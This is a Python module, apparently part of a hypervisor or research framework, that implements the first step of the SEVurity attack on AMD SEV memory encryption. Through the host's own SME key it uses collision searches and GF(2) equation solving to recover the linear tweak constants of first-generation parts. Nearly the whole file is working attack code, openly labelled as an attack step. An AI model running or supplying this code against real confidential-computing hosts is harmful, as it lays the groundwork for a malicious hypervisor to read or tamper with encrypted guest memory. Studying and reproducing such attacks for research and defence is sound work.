"""SEVurity's first step: recover the linear tweak constants t_i with the host's own SME key.

In the first-generation modes the tweak of the block at host physical address p is
T(p) = XOR of t_i over the set address bits i >= 4, each t_i a 4-byte pattern repeated four
times, shared by every key of the part (attacks.md 2.5). Write m through the host key (C=1) at
p and read the raw cells: the AES input was z = m ^ T(p), also a 4-byte pattern, and the cells
determine a fixed function of z (the ciphertext under XE, ciphertext ^ m under XEX). Equal
values therefore mean equal AES inputs. Two bulk writes of one aligned region, one of zeros and
one of random patterns c_k, collide where c_k = T(p_j) ^ T(p_k), a linear equation in the
constants of the address bits inside the region (a birthday search: a 4 MiB region gives about
16 equations per round). With those known, a 1 MiB region can be written so that every block has
the same tweak, and a region at distance 2^i finds t_i in one collision.
The hypervisor does this once per host, before any guest is on it.
"""

from __future__ import annotations

from typing import Protocol

import numpy as np

from hv.hw.addr import SPA
from hv.hw.grants import TweakMode

__all__ = ["Unsolvable", "recover_constants", "tweak"]

_REGION_BITS = 22          # phase 1: a 4 MiB region, bits 4..21
_LOW_BITS = 20             # phase 2 regions: 1 MiB, bits 4..19 known from phase 1
_MAX_ROUNDS = 8


class HostPort(Protocol):
    """The hypervisor's host memory port (Vm.host): DRAM as stored, or through the host's own
    SME key with c_bit=True."""

    @property
    def size(self) -> int: ...
    def read(self, spa: SPA, length: int, c_bit: bool = False) -> bytes: ...
    def write(self, spa: SPA, data: bytes, c_bit: bool = False) -> None: ...


class Unsolvable(Exception):
    """The cells show no linear tweak (e.g. the random per-boot tweak of later parts)."""


def tweak(constants: dict[int, int], addr: int) -> int:
    t = 0
    for bit, c in constants.items():
        if addr >> bit & 1:
            t ^= c
    return t


def _pattern(x: np.ndarray) -> np.ndarray:
    """32-bit values -> their 16-byte blocks (the pattern four times), as (n, 4) uint32."""
    return np.repeat(x.astype(np.uint32)[:, None], 4, axis=1)


def _keys(host: HostPort, base: int, words: np.ndarray, xex: bool) -> np.ndarray:
    """Write the pattern blocks through the host key at `base`, return each block's key."""
    blocks = _pattern(words)
    host.write(SPA(base), blocks.tobytes(), c_bit=True)  # the solver works on host pages alone
    raw = np.frombuffer(host.read(SPA(base), blocks.nbytes), dtype=np.uint32).reshape(-1, 4)
    key = raw ^ blocks if xex else raw
    return key.view(np.uint64)[:, 0].copy()


def _low_tweaks(constants: dict[int, int], nbits: int) -> np.ndarray:
    idx = np.arange(1 << (nbits - 4), dtype=np.uint64)
    out = np.zeros(idx.shape, dtype=np.uint32)
    for bit in range(4, nbits):
        out[((idx >> np.uint64(bit - 4)) & np.uint64(1)).astype(bool)] ^= np.uint32(constants[bit])
    return out


def _solve(rows: list[tuple[int, int]], nvars: int) -> list[int] | None:
    """Gauss-Jordan over GF(2): rows are (mask of variables, 32-bit right-hand side)."""
    pivots: dict[int, tuple[int, int]] = {}
    for mask, rhs in rows:
        for bit in sorted(pivots, reverse=True):
            if mask >> bit & 1:
                pm, pr = pivots[bit]
                mask, rhs = mask ^ pm, rhs ^ pr
        if mask:
            top = mask.bit_length() - 1
            pivots[top] = (mask, rhs)
        elif rhs:
            raise Unsolvable("inconsistent tweak equations: the tweak is not linear")
    if len(pivots) < nvars:
        return None
    values = [0] * nvars
    for bit in sorted(pivots):
        mask, rhs = pivots[bit]
        for other in range(bit):
            if mask >> other & 1:
                rhs ^= values[other]
        values[bit] = rhs
    return values


def recover_constants(host: HostPort, mode: TweakMode,
                      rng: np.random.Generator | None = None) -> dict[int, int]:
    """{bit: t_bit} for every address bit 4.. that DRAM behind the hypervisor's `host` port
    uses, on a part of tweak generation `mode` (public: which CPU it is)."""
    rng = rng or np.random.default_rng()
    dram_size = host.size
    xex = mode is not TweakMode.XE_LINEAR
    region, nvars = 1 << _REGION_BITS, _REGION_BITS - 4
    base = region  # [4 MiB, 8 MiB): scratch host memory before any guest is loaded
    zeros = _keys(host, base, np.zeros(region // 16, dtype=np.uint32), xex)
    order = np.argsort(zeros)
    rows: list[tuple[int, int]] = []
    values = None
    for _ in range(_MAX_ROUNDS):
        c = rng.integers(1, 1 << 32, size=region // 16, dtype=np.uint64).astype(np.uint32)
        keys = _keys(host, base, c, xex)
        pos = np.searchsorted(zeros, keys, sorter=order)
        pos[pos >= len(zeros)] = 0
        hit = zeros[order[pos]] == keys
        for k in np.flatnonzero(hit):
            j = int(order[pos[k]])
            rows.append((j ^ int(k), int(c[k])))
        values = _solve(rows, nvars)
        if values is not None:
            break
    if values is None:
        raise Unsolvable(f"{len(rows)} tweak collisions in {_MAX_ROUNDS} rounds: the tweak is not a linear 4-byte pattern")
    constants = {bit + 4: v for bit, v in enumerate(values)}
    # Phase 2: each higher bit from one collision between two same-tweak 1 MiB regions.
    low = _low_tweaks(constants, _LOW_BITS)
    n = 1 << (_LOW_BITS - 4)
    js = np.arange(n, dtype=np.uint32)
    for bit in range(_REGION_BITS, dram_size.bit_length()):
        p, q = 0, 1 << bit
        if q + (1 << _LOW_BITS) > dram_size:
            p, q = (1 << _LOW_BITS), (1 << bit) | (1 << _LOW_BITS)
            if q + (1 << _LOW_BITS) > dram_size:
                continue  # no 1 MiB pair at this distance in DRAM: the bit is never used whole
        a = _keys(host, p, low ^ js, xex)
        b = _keys(host, q, low ^ (js << np.uint32(16)), xex)
        common, ia, ib = np.intersect1d(a, b, return_indices=True)
        if len(common) != 1:
            raise Unsolvable(f"bit {bit}: {len(common)} collisions instead of one")
        constants[bit] = int(ia[0]) ^ (int(ib[0]) << 16)
    return constants
